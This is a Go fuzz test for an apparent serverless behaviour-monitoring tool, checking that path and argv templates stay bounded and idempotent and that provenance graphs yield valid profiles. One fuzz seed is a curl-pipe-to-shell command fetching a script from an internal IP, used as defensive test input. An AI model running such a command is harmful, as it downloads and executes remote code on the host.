package profile

import (
	"strings"
	"testing"

	"github.com/faasmon/faasmon/pkg/graph/provenance"
)

// FuzzTemplates: whatever a traced program names, the templates are
// bounded, printable values, and folding is idempotent (a template is its
// own template, so a value read back from a file means the same).
func FuzzTemplates(f *testing.F) {
	for _, s := range []string{"/tmp/photos/shot-58035.jpg", "/tmp/tmpa8x7kq2z", "sh -c 'curl -s http://10.66.0.2/p.sh | sh'",
		"/job-1a2b3c4d-4b1e-4c2a-9f3d-5e6f7a8b9c0d/x", "\xff\x00\n", strings.Repeat("a1", 400)} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for name, fold := range map[string]func(string) string{"PathTemplate": PathTemplate, "ArgvShape": ArgvShape} {
			v := fold(s)
			if len(v) > MaxValueLen || (v != "" && checkText(v) != nil) {
				t.Fatalf("%s(%q) = %q: not a valid value", name, s, v)
			}
			if checkText(s) == nil && len(s) < MaxValueLen/2 && !strings.Contains(s, "…") {
				if again := fold(v); again != v {
					t.Fatalf("%s not idempotent: %q → %q → %q", name, s, v, again)
				}
			}
		}
		// The same string as every name a graph can hold.
		g := &provenance.Graph{Version: provenance.SchemaVersion, Function: "f", Window: provenance.WindowBackground,
			Nodes: []provenance.Node{
				{ID: 0, Kind: provenance.NodeProcess, Label: s, Exe: s, PID: 1},
				{ID: 1, Kind: provenance.NodeFile, Label: s, Path: s},
				{ID: 2, Kind: provenance.NodeSocket, Label: s, Addr: s, DNS: s, Proto: "TCP", Class: provenance.PathClass(s)},
				{ID: 3, Kind: provenance.NodeProcess, Label: s, Exe: s, PID: 1},
			},
			Edges: []provenance.Edge{{Src: 0, Dst: 1, Kind: provenance.EdgeWrite, Count: 1},
				{Src: 1, Dst: 3, Kind: provenance.EdgeExecve, Count: 1},
				{Src: 0, Dst: 2, Kind: provenance.EdgeConnect, Count: 1},
				{Src: 7, Dst: 2, Kind: provenance.EdgeConnect, Count: 1}}}
		b := Extract(g, &Extra{Requests: []Request{{Method: s, Host: s, Path: s}}})
		for d, items := range b.Dims {
			for _, it := range items {
				if err := checkValue(FileValue{it.Value, 0}, 0); err != nil {
					t.Fatalf("%s value %q: %v", d, it.Value, err)
				}
			}
		}
		p := New(Key{Function: "f"}, Config{})
		p.LearnBehaviour(b)
		if err := p.Validate(); err != nil {
			t.Fatal(err)
		}
	})
}
